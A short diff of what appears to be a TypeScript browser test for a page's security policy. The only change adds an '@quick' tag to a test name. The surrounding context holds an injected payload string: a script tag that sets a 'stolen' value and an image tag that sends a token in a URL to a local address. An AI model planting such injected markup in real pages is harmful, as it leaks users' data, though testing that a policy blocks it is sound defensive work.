@@ -32,7 +32,7 @@ const find = async (stack: Stack, directive: string, page: string) =>
 const INJECTED =
   '<script>window.stolen = "13800000001"</script><img src="http://127.0.0.1:9/x.png?token=secret-0f8d3a5c">'
 
-test('What a page’s policy forbids does not happen, and staff find it counted', async ({
+test('What a page’s policy forbids does not happen, and staff find it counted @quick', async ({
   page,
   stack,
   script,
